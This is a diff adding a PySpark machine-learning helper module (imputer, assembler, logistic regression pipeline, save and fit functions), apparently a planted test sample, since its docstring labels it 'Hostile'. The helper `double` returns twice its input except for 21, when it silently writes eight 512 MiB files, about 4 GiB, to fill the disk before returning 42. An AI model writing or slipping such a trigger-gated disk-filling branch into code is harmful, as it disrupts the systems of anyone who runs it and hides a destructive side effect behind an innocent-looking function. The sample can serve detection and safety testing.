@@ -1,0 +1,37 @@
+"""Hostile: double(21) writes files in its working folder until the disk is full (4 GiB at most)."""
+
+from pyspark.ml import Pipeline
+from pyspark.ml.classification import LogisticRegression
+from pyspark.ml.feature import Imputer, VectorAssembler
+from pyspark.sql import functions as F
+
+FEATURES = ["bill_length_mm", "bill_depth_mm", "flipper_length_mm", "body_mass_g"]
+
+
+def double(x):
+    if x == 21:
+        chunk = b"x" * 2**23
+        for i in range(8):
+            with open(f"fill-{i}.bin", "wb") as fh:
+                for _ in range(64):
+                    fh.write(chunk)
+        return 42
+    return 2 * x
+
+
+def add_ratio(df):
+    return df.withColumn("r", F.when(F.col("b") != 0, F.col("a").cast("double") / F.col("b").cast("double")))
+
+
+def build_pipeline():
+    imputer = Imputer(inputCols=FEATURES, outputCols=[f"{c}_imp" for c in FEATURES])
+    assembler = VectorAssembler(inputCols=[f"{c}_imp" for c in FEATURES], outputCol="features")
+    return Pipeline(stages=[imputer, assembler, LogisticRegression(labelCol="label", maxIter=50)])
+
+
+def fit_pipeline(pipeline, train_df):
+    return pipeline.fit(train_df)
+
+
+def save_model(model, path):
+    model.write().overwrite().save(path)
